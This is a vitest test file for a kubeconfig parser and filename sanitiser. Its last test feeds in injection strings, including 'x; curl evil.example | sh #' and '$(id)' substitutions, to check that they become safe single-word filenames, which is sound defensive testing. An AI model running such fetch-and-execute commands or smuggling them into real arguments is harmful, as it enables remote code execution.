import { describe, expect, it } from 'vitest'
import { parseYaml } from '../editor/parse-yaml.ts'
import { kubeconfigFile, readKubeconfig } from './KubeconfigField.tsx'

const read = (text: string) => readKubeconfig(text, parseYaml)

const config = `
apiVersion: v1
kind: Config
current-context: b
clusters:
- name: one
  cluster: { server: https://10.0.0.5:6443 }
- name: two
  cluster: { server: https://10.0.0.6:6443 }
contexts:
- name: a
  context: { cluster: one, user: ann }
- name: b
  context: { cluster: two, user: bob }
users: []
`

describe('readKubeconfig', () => {
  it('lists the contexts with server and user, and marks the current one', () => {
    expect(read(config)).toEqual({
      current: 'b',
      contexts: [
        { name: 'a', server: 'https://10.0.0.5:6443', user: 'ann' },
        { name: 'b', server: 'https://10.0.0.6:6443', user: 'bob' },
      ],
    })
  })

  it('selects the first context if none is current', () => {
    expect(read(config.replace('current-context: b', ''))).toMatchObject({ current: 'a' })
  })

  it('names the line of broken YAML', () => {
    expect(read('clusters:\n- name: one\n  cluster: {')).toMatchObject({ problem: 'notYaml', line: 3 })
  })

  it.each(['', 'hello', '- 1', 'kind: Pod', 'contexts: 5'])(
    'rejects %j, which is not a kubeconfig',
    (text) => {
      expect(read(text)).toEqual({ problem: 'notKubeconfig' })
    },
  )

  it('rejects oversized text without parsing it', () => {
    expect(read('a'.repeat(1024 * 1024 + 1))).toEqual({ problem: 'tooLarge' })
  })
})

describe('the file name of a kubeconfig', () => {
  it.each([
    ['hafen-süd.1', 'hafen-süd.1.kubeconfig'],
    ['two words', 'two-words.kubeconfig'],
    ['x; curl evil.example | sh #', 'x-curl-evil.example-sh-.kubeconfig'],
    ['$(id)`id`"\n\'/..', '-id-id-...kubeconfig'],
  ])('of %s is a single word in any shell', (name, file) => {
    expect(kubeconfigFile(name)).toBe(file)
  })
})
